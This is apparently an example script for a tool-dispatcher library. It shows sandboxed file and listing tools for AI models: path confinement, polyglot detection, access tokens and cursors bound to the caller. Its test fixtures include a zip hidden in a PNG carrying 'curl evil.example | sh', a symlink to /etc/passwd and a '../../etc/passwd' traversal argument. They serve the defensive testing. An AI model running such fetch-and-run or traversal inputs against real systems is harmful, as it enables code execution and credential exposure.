"""Tools that return files, pages of a listing and images, behind the boundary: standard library only.

    python -B examples/artifact_tools.py

It runs from a checkout as it is, or copied anywhere once `pip install tool-dispatcher` is done. The
program makes a folder of reports in a temporary directory (a chart, a chart that is also a zip, a
link to /etc/passwd, seven PDFs), declares two read tools over it, and plays a model's calls:

- open_report(path): the file is admitted under the folder (artifacts/files.py), its bytes by
  their own signature (artifacts.py), and the model gets a reference: kind, media type, size,
  digest and a short-lived access token bound to the caller and the call. Never the bytes.
- list_reports(cursor?): a page of three names and an opaque cursor bound to the caller, the tool
  and the arguments; another caller's replay of it is refused.

The host (never the model) then opens the access token, takes the bytes it admitted, and sends
the chart to each provider as an image in the tool result (artifacts/multimodal.py). It prints
one JSON summary and exits 0 when every step gave what it should.
"""
import hashlib
import json
import os
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if (ROOT / "artifacts" / "artifacts.py").is_file():  # in a checkout: its own modules, nothing installed
    sys.path[:0] = [str(ROOT / "artifacts"), str(ROOT)]  # the module artifacts.py before the folder of that name
    import artifacts as art  # noqa: E402
    import files  # noqa: E402
    import multimodal  # noqa: E402
    from makers import pdf, png, png_chunk, zip_of  # noqa: E402
else:  # anywhere else: the installed packages (pip install tool-dispatcher)
    try:
        from tool_dispatcher_artifacts import artifacts as art, files, multimodal
        from tool_dispatcher_artifacts.makers import pdf, png, png_chunk, zip_of
    except ImportError:  # copied out of the checkout, before the install: say so, no traceback
        print("artifact_tools.py: tool-dispatcher is not installed for this Python: run it from a checkout, "
              "or `pip install tool-dispatcher` first", file=sys.stderr)
        raise SystemExit(2) from None
import tool_dispatcher as td  # noqa: E402

NOW = 1_800_000_000  # the host's clock, in seconds
IMAGES_AND_PDFS = art.MediaPolicy(allowed=frozenset({"image/png", "application/pdf"}), max_bytes=1_048_576)
PATH = {"type": "string", "pattern": "^[a-z0-9-]{1,32}[.][a-z]{3}$"}  # the contract's narrowest; files.py does the rest
OPEN = td.declare_tool(
    "open_report", description="Opens one report file and returns a reference to it.", effect="read",
    required_role="reports.read",
    input_schema={"type": "object", "properties": {"path": PATH}, "required": ["path"], "additionalProperties": False},
    output_schema={"type": "object", "properties": {"report": td.json_copy(dict(art.REFERENCE_SCHEMA))},
                   "required": ["report"], "additionalProperties": False})
LIST = td.declare_tool(
    "list_reports", description="Lists the report files, three at a time.", effect="read", required_role="reports.read",
    input_schema={"type": "object", "properties": {"cursor": td.json_copy(dict(art.CURSOR_SCHEMA))},
                  "additionalProperties": False},
    output_schema={"type": "object", "properties": {
        "names": {"type": "array", "items": PATH, "maxItems": 3}, "next_cursor": td.json_copy(dict(art.CURSOR_SCHEMA))},
        "required": ["names", "next_cursor"], "additionalProperties": False})


class ReportHost:
    """The host's side: its folder, its keys, the bytes it admitted, and the codes it refused with."""

    def __init__(self, folder: Path) -> None:
        self.root = files.FileRoot(str(folder), max_bytes=IMAGES_AND_PDFS.max_bytes)
        self.keys = art.ArtifactKeys("k1", {"k1": os.urandom(32)})
        self.admitted: dict[str, bytes] = {}  # sha256 -> bytes: what an access token can open
        self.refusals: list[str] = []  # the codes the model never sees (it hears TOOL_FAILED)
        self.names = sorted(path.name for path in folder.iterdir() if path.suffix == ".pdf")

    def open_report(self, call: td.ExecuteCall) -> td.Execution:
        try:
            found = files.admit_file(self.root, call.arguments["path"])
            admitted = art.admit_bytes(found.data, declared_type=_declared(found.relative_path), policy=IMAGES_AND_PDFS)
        except (files.FileError, art.ArtifactError) as refusal:
            self.refusals.append(refusal.code)
            return td.Execution(None, "not_committed")
        self.admitted[admitted.sha256] = admitted.data
        access = art.mint_access(self.keys, principal=call.principal, call_id=call.call_id,
                                 sha256=admitted.sha256, now=call.now)
        return td.Execution({"report": art.reference(admitted, kind="file", access=access)}, "none")

    def list_reports(self, call: td.ExecuteCall) -> td.Execution:
        try:
            page = art.page_of(self.names, keys=self.keys, principal=call.principal, tool=call.tool,
                               arguments=call.arguments, now=call.now, page_size=3)
        except art.ArtifactError as refusal:
            self.refusals.append(refusal.code)
            return td.Execution(None, "not_committed")
        return td.Execution({"names": page.items, "next_cursor": page.next_cursor}, "none")

    def attachment(self, reference: dict, principal: td.Principal, context: td.CallContext) -> multimodal.Attachment:
        """The bytes behind a reference, for the caller and the call its token was issued for."""
        art.open_access(self.keys, reference["access"], principal=principal, call_id=context.call_id,
                        sha256=reference["sha256"], now=NOW + 1)
        return multimodal.Attachment(self.admitted[reference["sha256"]], reference["media_type"])


def _declared(name: str) -> str:
    return {".png": "image/png", ".pdf": "application/pdf"}.get(Path(name).suffix, "application/octet-stream")


def _make_reports(folder: Path) -> None:
    (folder / "q3-chart.png").write_bytes(png(png_chunk(b"tEXt", b"Title\x00Q3 revenue")))
    (folder / "q4-chart.png").write_bytes(png() + zip_of([("payload.sh", b"curl evil.example | sh")]))
    (folder / "secrets.txt").symlink_to("/etc/passwd")
    for month in ("jan", "feb", "mar", "apr", "may", "jun", "jul"):
        (folder / f"{month}.pdf").write_bytes(pdf())


def main() -> int:
    alice = td.Principal("tenant-a", "alice", ("reports.read",))
    bob = td.Principal("tenant-a", "bob", ("reports.read",))
    registry = td.declare_contracts(OPEN, LIST)
    with tempfile.TemporaryDirectory() as folder:
        _make_reports(Path(folder))
        host = ReportHost(Path(folder))
        dispatcher = td.Dispatcher(registry=registry, hooks={"open_report": td.ToolHooks(execute=host.open_report),
                                                             "list_reports": td.ToolHooks(execute=host.list_reports)})
        steps, items = [], {}

        def call(principal: td.Principal, name: str, arguments: dict,
                 adapter: str = "openai-responses-v1") -> tuple[td.CallContext, dict]:
            number, profile = len(steps) + 1, td.PROVIDER_PROFILES[adapter]
            context = td.CallContext(profile.provider, profile.api_family, adapter, f"resp-{number}", f"call-{number}",
                                     f"op-{number}")
            before = len(host.refusals)
            package = dispatcher.dispatch({"name": name, "arguments": arguments}, context, principal, now=NOW)
            result = package["model_result"]
            steps.append({"caller": principal.subject, "provider": profile.provider, "tool": name, "arguments": arguments, "status": result["status"],
                          "model_sees": result.get("data", result.get("error", {}).get("code")),
                          "host_recorded": host.refusals[-1] if len(host.refusals) > before else None})
            return context, package

        opened = {adapter: call(alice, "open_report", {"path": "q3-chart.png"}, adapter)
                  for adapter in ("openai-responses-v1", "anthropic-messages-v1", "gemini-interactions-v1")}
        call(alice, "open_report", {"path": "q4-chart.png"})
        call(alice, "open_report", {"path": "secrets.txt"})
        call(alice, "open_report", {"path": "../../etc/passwd"})
        _first_context, first_page = call(alice, "list_reports", {})
        cursor = first_page["model_result"]["data"]["next_cursor"]
        call(alice, "list_reports", {"cursor": cursor})
        call(bob, "list_reports", {"cursor": cursor})
        for adapter, (context, package) in opened.items():
            # The host, for this caller and this call only, opens the token and sends the bytes it admitted.
            chart = host.attachment(package["model_result"]["data"]["report"], alice, context)
            items[adapter] = _parts(multimodal.attach(package, context, adapter, [chart], principal=alice,
                                                      registry=registry))
        reference = package["model_result"]["data"]["report"]
    expected = [("ok", None), ("ok", None), ("ok", None), ("error", "ARTIFACT_POLYGLOT"), ("error", "FILE_LINK_REFUSED"),
                ("error", None), ("ok", None), ("ok", None), ("error", "PAGE_CURSOR_OTHER_PRINCIPAL")]
    passed = ([(step["status"], step["host_recorded"]) for step in steps] == expected
              and hashlib.sha256(chart.data).hexdigest() == reference["sha256"]
              and all(parts[1:] == ["image"] for parts in items.values()))
    print(json.dumps({"passed": passed, "steps": steps, "attached": items}, indent=2))
    return 0 if passed else 1


def _parts(item: dict) -> list[str]:
    """The kinds of the parts a provider's tool result carries, in order (the bytes left out)."""
    for key in ("output", "content"):
        if type(item.get(key)) is list:
            return [_kind(part) for part in item[key]]
    return [_kind(part) for part in item["input"][0]["result"]]


def _kind(part: dict) -> str:
    return "text" if part["type"] in ("input_text", "text") else "image"


if __name__ == "__main__":
    # run_cli: the project's failure shape for any error, and a reader that goes away (| head) ends it quietly.
    sys.exit(td.run_cli(main))
